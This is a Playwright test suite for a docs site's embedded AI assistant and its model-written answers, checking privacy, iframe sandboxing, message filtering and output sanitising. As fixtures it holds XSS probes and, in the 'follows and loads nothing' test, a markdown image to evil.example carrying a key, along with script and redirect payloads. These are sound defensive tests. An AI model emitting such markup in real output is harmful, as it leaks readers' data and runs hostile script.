/** The assistant as readers meet it, with the local hub in the vendor's place. */
import type { Page, Route } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startHub } from '../../deploy/hub.mjs';
import { faults } from '../site/axe.ts';
import { visit } from './browser.ts';
import { follow } from './navigating.ts';
import { buildVariant, variant } from './site.ts';

const own = variant('assistant');
const writer = 'https://writer.example/';

let hub: Awaited<ReturnType<typeof startHub>>;
beforeAll(async () => {
  hub = await startHub({ port: 0, host: 'localhost' });
  const host = hub.url;
  const vendor = `key: 'public-key', agentCode: 'docs', apiBaseUrl: '${host}/api', host: '${host}', version: '1.2.3'`;
  await buildVariant(own, `assistant: { ${vendor} }, answers: { endpoint: '${writer}' }`);
});
afterAll(() => hub.close());

const site = visit(own);
const launcher = (page: Page) => page.getByRole('button', { name: 'Ask the assistant' });
const panel = (page: Page) => page.getByRole('dialog', { name: 'Assistant' });
const chat = (page: Page) => page.frameLocator('iframe[title="Assistant"]');

/** Opens a page and makes the first sign that somebody reads it. */
async function arrive(before?: (page: Page) => unknown): Promise<Page> {
  const page = await site.open('docs/intro', before ? { before } : {});
  await page.mouse.move(400, 400);
  await launcher(page).waitFor();
  return page;
}

async function open(before?: (page: Page) => unknown): Promise<Page> {
  const page = await arrive(before);
  await launcher(page).click();
  return page;
}

/** The panel with nothing said in it yet, on a page that tests share. */
async function sharedPanel(): Promise<Page> {
  const page = await site.share('docs/intro');
  await page.mouse.move(400, 400);
  await launcher(page).waitFor();
  if (!(await panel(page).isVisible())) await launcher(page).click();
  await chat(page).getByRole('log').waitFor();
  return page;
}

async function ask(page: Page, message: string): Promise<void> {
  await chat(page).getByLabel('Message').fill(message);
  await chat(page).getByRole('button', { name: 'Send' }).click();
}

const answerOf = (page: Page, call: (route: Route) => unknown, file = 'chat.js') =>
  page.route(`${hub.url}/resources/**/${file}`, (route) => call(route));

describe('the assistant', () => {
  it('costs nothing until it is used, and then loads the files of the release that is configured', async () => {
    const asked: string[] = [];
    const page = await arrive((fresh) => fresh.on('request', (request) => asked.push(request.url())));
    expect(await faults(page)).toEqual([]);
    expect(asked.filter((url) => url.startsWith(hub.url) || url.includes('/assistant/'))).toEqual([]);
    await launcher(page).click();
    await chat(page).getByRole('log').waitFor();
    const loaded = asked.filter((url) => url.startsWith(hub.url)).map((url) => url.slice(hub.url.length + 1));
    expect(loaded.sort()).toEqual(['resources/1.2.3/chat.css', 'resources/1.2.3/chat.js']);
    expect(await faults(page, '.assistant')).toEqual([]);
  });

  it('sends the key, the agent and the page in view, and shows the answer', async () => {
    const page = await open();
    const request = page.waitForRequest(/execute$/);
    await ask(page, 'keep the key on the server');
    const { method, url, headers, body } = await request.then((sent) => ({
      method: sent.method(),
      url: sent.url(),
      headers: sent.headers(),
      body: sent.postDataJSON() as { Key: string; Value: string }[],
    }));
    expect(`${method} ${url}`).toBe(`POST ${hub.url}/api/v2/agent/docs/execute`);
    expect(headers['x-api-key']).toBe('public-key');
    expect(body).toContainEqual({ Key: 'page', Value: `${site.url}docs/intro` });
    const link = chat(page).getByRole('log').getByRole('link').first();
    expect(await link.getAttribute('href')).toContain(site.url);
  });

  it('tells neither the query nor the hash of the page', async () => {
    const page = await site.open('search?q=secret#secret');
    await page.mouse.move(400, 400);
    await expect.poll(() => page.title()).toContain('secret');
    await launcher(page).click();
    const request = page.waitForRequest(/execute$/);
    await ask(page, 'keep the key on the server');
    const body = (await request).postDataJSON() as { Key: string; Value: string }[];
    expect(body).toContainEqual({ Key: 'page', Value: `${site.url}search` });
    const known = () =>
      chat(page)
        .locator('html')
        .evaluate(() => [document.referrer, document.title].join());
    expect(await known()).toBe(',Search the documentation | Fixture');
    await follow(page, `${site.url}docs/intro?token=secret#secret`);
    await expect.poll(() => page.locator('h1').textContent()).toBe('Introduction');
    const next = page.waitForRequest(/execute$/);
    await ask(page, 'again');
    expect((await next).postData()).not.toContain('token');
  });

  it('goes on with the conversation while the reader moves from page to page', async () => {
    const page = await open();
    await ask(page, 'keep the key on the server');
    await chat(page).getByRole('log').getByRole('link').first().waitFor();
    const link = page.locator('#Menu a:not([aria-current]):visible').first();
    await link.click();
    await page.waitForURL((url) => !url.pathname.endsWith('/docs/intro'));
    await expect.poll(() => page.locator('h1').textContent()).not.toBe('Introduction');
    expect(await chat(page).getByText('keep the key on the server', { exact: true }).isVisible()).toBe(true);
    const request = page.waitForRequest(/execute$/);
    await ask(page, 'again');
    const body = (await request).postDataJSON() as { Key: string; Value: string }[];
    expect(body).toContainEqual({ Key: 'page', Value: page.url() });
    expect(body.find(({ Key }) => Key === 'chatId')?.Value).toBeTruthy();
  });

  it('closes with Escape from inside and outside, gives focus back, and keeps what was said', async () => {
    const page = await open();
    await ask(page, 'keep the key on the server');
    await chat(page).getByLabel('Message').press('Escape');
    await expect.poll(() => panel(page).isVisible()).toBe(false);
    expect(await launcher(page).evaluate((button) => button === document.activeElement)).toBe(true);
    await page.keyboard.press('Enter');
    await panel(page).getByRole('button', { name: 'Close' }).press('Escape');
    await expect.poll(() => panel(page).isVisible()).toBe(false);
    await launcher(page).click();
    expect(await chat(page).getByText('keep the key on the server', { exact: true }).isVisible()).toBe(true);
  });
});

it('the frame has a policy that alone allows the hub, and no origin that could touch the page', async () => {
  const page = await sharedPanel();
  const document = await page.request.get(`${site.url}assistant/frame`);
  const shell = await page.request.get(`${site.url}docs/intro`);
  const policy = document.headers()['content-security-policy'] ?? '';
  expect(policy).toContain(`script-src 'sha256-`);
  expect(policy).toContain(hub.url);
  expect(policy).toMatch(/sandbox (?!.*allow-same-origin)/);
  expect(policy).toContain("frame-ancestors 'self'");
  expect(shell.headers()['content-security-policy']).not.toContain(hub.url);
  const frame = page.frame({ url: /assistant\/frame/ });
  expect(await frame?.evaluate(() => origin)).toBe('null');
  const touch = frame?.evaluate(() => parent.document.title);
  await expect(touch).rejects.toThrow(/cross-origin/);
  const kept = frame?.evaluate(() => {
    localStorage.setItem('a', 'b');
    return localStorage.getItem('a');
  });
  expect(await kept).toBe('b');
});

describe('messages', () => {
  const messages = [
    null,
    5,
    'close',
    [],
    {},
    { type: null },
    { type: 'page', url: 'https://elsewhere.example/', title: '<b>x</b>' },
    { type: 'hello' },
  ];
  const verdicts = [{ type: 'close' }, { type: 'failed', reason: '<img src=x>' }, { type: 'ready' }];
  const frameOf = (page: Page) => page.frames().find((frame) => frame.url().endsWith('/assistant/frame'));

  it('from the page itself, another frame and another origin are not heard by the panel', async () => {
    const page = await sharedPanel();
    const before = await panel(page).innerHTML();
    await page.evaluate(
      (all) => {
        const other = document.createElement('iframe');
        document.body.append(other);
        for (const data of all) {
          postMessage(data, '*');
          for (const origin of [location.origin, 'null', 'https://elsewhere.example'])
            dispatchEvent(new MessageEvent('message', { data, origin, source: other.contentWindow }));
        }
        other.remove();
      },
      [...messages, ...verdicts],
    );
    await page.evaluate(() => new Promise((done) => setTimeout(done)));
    expect([await panel(page).innerHTML(), await panel(page).isVisible()]).toEqual([before, true]);
  });

  it('of the frame that mean nothing change nothing, and a reason is a text', async () => {
    const page = await open();
    await chat(page).getByRole('log').waitFor();
    const before = await panel(page).innerHTML();
    const say = (all: unknown[]) =>
      frameOf(page)?.evaluate((list) => {
        for (const data of list) parent.postMessage(data, '*');
      }, all);
    await say(messages);
    await page.evaluate(() => new Promise((done) => setTimeout(done)));
    expect(await panel(page).innerHTML()).toBe(before);
    await say([{ type: 'failed', reason: `<img src=x>${'x'.repeat(1_000_000)}` }]);
    const alert = panel(page).getByRole('alert');
    await alert.getByText('<img src=x>xxx').waitFor();
    expect((await alert.innerText()).length).toBeLessThan(500);
  });

  it('start nothing in a frame that the panel did not open', async () => {
    const asked: string[] = [];
    const page = await site.open('assistant/frame', {
      before: (fresh) => fresh.on('request', (request) => asked.push(request.url())),
    });
    await page.evaluate((all) => {
      const other = document.body.appendChild(document.createElement('iframe'));
      for (const data of all) {
        postMessage(data, '*');
        dispatchEvent(new MessageEvent('message', { data, source: other.contentWindow }));
        dispatchEvent(
          new MessageEvent('message', { data, source: parent, origin: 'https://elsewhere.example' }),
        );
      }
    }, messages);
    await page.evaluate(() => new Promise((done) => setTimeout(done)));
    expect(asked).toEqual([`${site.url}assistant/frame`]);
  });
});

describe('an assistant that cannot be loaded', () => {
  const failing: [string, (route: Route) => unknown][] = [
    ['is blocked', (route) => route.abort('blockedbyclient')],
    [
      'cannot start',
      (route) =>
        route.fulfill({
          contentType: 'text/javascript',
          body: 'class AIHubChat { init() { throw new Error("No agent") } }',
        }),
    ],
  ];

  it.each(failing)('because its script %s says so, and loads when asked again', async (_, fail) => {
    site.allow(/./);
    const page = await open((fresh) => answerOf(fresh, fail));
    const alert = panel(page).getByRole('alert');
    await alert.getByText('The assistant could not be loaded.').waitFor();
    await page.unroute(`${hub.url}/resources/**/chat.js`);
    await alert.getByRole('button', { name: 'Retry' }).click();
    await chat(page).getByRole('log').waitFor();
    expect(await alert.count()).toBe(0);
  });
  it('says that it is loading, and gives up in time', async () => {
    const page = await open(async (fresh) => {
      await fresh.clock.install();
      await answerOf(fresh, () => undefined);
    });
    await page.clock.fastForward(250);
    await panel(page).getByRole('status').getByText('The assistant is loading.').waitFor();
    await page.clock.fastForward(15_000);
    await panel(page).getByRole('alert').waitFor();
  });

  it('says so to a reader who is offline', async () => {
    site.allow(/./);
    const page = await arrive();
    await page.context().setOffline(true);
    await launcher(page).click();
    await panel(page).getByRole('alert').getByText('You are offline.').waitFor();
  });
});
describe('an answer that a model writes', () => {
  const event = (data: unknown, name = 'message') => `event: ${name}\ndata: ${JSON.stringify(data)}\n\n`;

  /** Asks these docs, where the address that writes answers says `body`; resolves to the answer. */
  async function answer(body: string) {
    const headers = { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*' };
    const page = await site.share('docs/guides/first');
    const asked: unknown[] = [];
    const requests: string[] = [];
    page.on('request', (request) => requests.push(request.url()));
    await page.route(writer, (route) => {
      const sent = route.request().postData();
      if (sent !== null) asked.push(JSON.parse(sent));
      return route.fulfill({ headers, contentType: 'text/event-stream', body });
    });
    const dialog = page.getByRole('dialog', { name: 'Search' });
    if ((await dialog.count()) > 0) await page.keyboard.press('Control+k');
    await expect.poll(() => dialog.count()).toBe(0);
    await page.keyboard.press('Control+k');
    await dialog.getByRole('combobox').fill('keep the key on the server');
    await dialog.getByRole('combobox').press('Shift+Enter');
    return { page, asked, requests, region: dialog.getByRole('region', { name: 'Quoted from these docs' }) };
  }

  it('stands above the passages, says who wrote it, and leads to those that it names', async () => {
    const text = 'Keep <b>it</b> there [1].\n\nNobody else may [7] see it <img src=x onerror=alert(1)> [1]';
    const { page, asked, region } = await answer(event({ text }) + event({}, 'done'));
    await region.getByText('Written by a model').waitFor();
    expect(await region.innerText()).toContain('Keep <b>it</b> there [1].');
    expect(await region.innerText()).not.toContain('[7]');
    expect(await region.locator('img, b').count()).toBe(0);
    expect(await region.getByText('Nothing is written').count()).toBe(0);
    expect(await faults(page, 'dialog[open]')).toEqual([]);
    const link = region.getByRole('link', { name: '[1]' });
    expect(await link.count()).toBe(2);
    const source = await region
      .locator('figcaption', { hasText: '[1]' })
      .getByRole('link')
      .getAttribute('href');
    expect(await link.first().getAttribute('href')).toBe(source);
    expect(asked).toEqual([{ question: 'keep the key on the server', locale: 'en', sections: [source] }]);
    await link.first().click();
    await page.waitForURL((url) => url.pathname + url.hash === source);
  });
  it('follows and loads nothing that it names', async () => {
    const hostile = [
      '![pixel](https://evil.example/?q=key) <img src=https://evil.example/x><script src=//evil.example></script>',
      '[1](https://evil.example) [here](javascript:alert(1)) https://evil.example <a href=//evil.example>x</a>',
      `${'x'.repeat(9000)} [9] <meta http-equiv=refresh content="0;url=//evil.example"> [1]`,
    ];
    const { requests, region } = await answer(event({ text: hostile.join('\n\n') }) + event({}, 'done'));
    await region.getByText('Written by a model').waitFor();
    const written = await region.locator('.search-written').evaluate((box) => ({
      elements: [...new Set(Array.from(box.querySelectorAll('*'), ({ localName }) => localName))],
      links: Array.from(box.querySelectorAll('a'), ({ text }) => text),
      isWithin: box.scrollWidth <= box.clientWidth,
    }));
    expect(written).toEqual({ elements: ['p', 'a'], links: ['[1]'], isWithin: true });
    expect(requests).toContain(writer);
    expect(requests.filter((url) => url.includes('evil'))).toEqual([]);
  });
  it('that failed may be tried again', async () => {
    const { page, region } = await answer(event({ message: 'no credit' }, 'error'));
    await region.getByText('No answer could be written.').waitFor();
    const headers = { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*' };
    const body = event({ text: 'Keep it there [1].' }) + event({}, 'done');
    await page.route(writer, (route) => route.fulfill({ headers, contentType: 'text/event-stream', body }));
    await region.getByRole('button', { name: 'Retry' }).click();
    await region.getByText('Keep it there').waitFor();
  });
});
